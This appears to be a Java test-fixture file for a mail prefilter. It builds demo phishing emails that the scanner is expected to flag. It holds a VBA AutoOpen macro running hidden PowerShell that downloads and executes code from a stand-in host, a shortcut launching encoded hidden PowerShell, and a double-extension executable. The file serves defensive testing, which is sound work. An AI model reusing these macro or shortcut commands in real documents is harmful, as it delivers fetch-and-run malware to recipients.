package dev.prefilter.local.mail;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** The mails the demo and the end-to-end tests drop into the bucket, built from scratch. */
public final class DemoMails {

    /**
     * A mail with the object key it is stored under, the verdict the pipeline must reach at least,
     * and what it was built with: its subject, its Message-ID and the attachment that must be
     * flagged (null for the clean one).
     */
    public record DemoMail(
            String key,
            String description,
            byte[] bytes,
            String expectedAtLeast,
            String subject,
            String messageId,
            String flaggedAttachment) {}

    public static final String MACRO_SOURCE = "Attribute VB_Name = \"Module1\"\r\n"
            + "Sub AutoOpen()\r\n"
            + "    Dim cmd As String\r\n"
            + "    cmd = \"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/p')\"\r\n"
            + "    Shell cmd, vbHide\r\n"
            + "End Sub\r\n";

    private DemoMails() {}

    public static List<DemoMail> all(String prefix) {
        return List.of(
                new DemoMail(
                        prefix + "clean-meeting-notes.eml",
                        "clean: text and a plain zip of notes",
                        clean(),
                        "clean",
                        "Meeting notes",
                        "<notes-2026-11@example.com>",
                        null),
                new DemoMail(
                        prefix + "macro-invoice.eml",
                        "Word document with an AutoOpen macro",
                        macro(),
                        "suspicious",
                        "Rechnung Nr. 4711 – fällig",
                        "<rechnung-4711@example.net>",
                        "Rechnung_4711.docm"),
                new DemoMail(
                        prefix + "encrypted-zip-shortcut.eml",
                        "AES zip with a .lnk, password in the body",
                        encryptedZipWithShortcut(),
                        "suspicious",
                        "Your documents",
                        "<documents-2026-11@example.net>",
                        "Invoice_2026-11.pdf.lnk"),
                new DemoMail(
                        prefix + "double-extension.eml",
                        "statement.pdf.exe",
                        doubleExtension(),
                        "malicious",
                        "Account statement",
                        "<statement-2026-11@example.net>",
                        "statement.pdf.exe"));
    }

    public static byte[] clean() {
        Map<String, byte[]> notes = new LinkedHashMap<>();
        notes.put(
                "minutes.txt",
                "Minutes of the planning meeting.\nActions: send the figures by Friday.\n"
                        .getBytes(StandardCharsets.UTF_8));
        notes.put("agenda.csv", "item,owner\nbudget,Ana\nhiring,Ben\n".getBytes(StandardCharsets.UTF_8));
        return new MimeBuilder()
                .from("Ana Lima <ana@example.com>")
                .to("Team <team@example.org>")
                .subject("Meeting notes")
                .messageId("<notes-2026-11@example.com>")
                .body("Hi all,\nthe notes are attached.\nAna\n")
                .attach("notes.zip", "application/zip", Archives.zip(notes))
                .build();
    }

    public static byte[] macro() {
        return new MimeBuilder()
                .from("Accounts <billing@example.net>")
                .to("Finance <finance@example.org>")
                .subject("Rechnung Nr. 4711 – fällig")
                .messageId("<rechnung-4711@example.net>")
                .body("Sehr geehrte Damen und Herren,\nanbei die Rechnung.\n")
                .attach(
                        "Rechnung_4711.docm",
                        "application/vnd.ms-word.document.macroEnabled.12",
                        OfficeDocuments.macroDocument("Module1", MACRO_SOURCE))
                .build();
    }

    public static byte[] encryptedZipWithShortcut() {
        byte[] lnk = LnkWriter.shortcut(
                "Invoice",
                "..\\..\\..\\Windows\\System32\\cmd.exe",
                "/c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
        byte[] zip = Archives.encryptedZip(Map.of("Invoice_2026-11.pdf.lnk", lnk), "Nov-2026-4711");
        return new MimeBuilder()
                .from("Shipping <noreply@example.net>")
                .to("Buyer <buyer@example.org>")
                .subject("Your documents")
                .messageId("<documents-2026-11@example.net>")
                .body("Hello,\nthe documents are attached.\nPassword: Nov-2026-4711\nRegards\n")
                .attach("documents.zip", "application/zip", zip)
                .build();
    }

    public static byte[] doubleExtension() {
        return new MimeBuilder()
                .from("Bank <service@example.net>")
                .to("Customer <customer@example.org>")
                .subject("Account statement")
                .messageId("<statement-2026-11@example.net>")
                .body("Your statement is attached.\n")
                .attach("statement.pdf.exe", "application/octet-stream", PeWriter.executable())
                .build();
    }
}
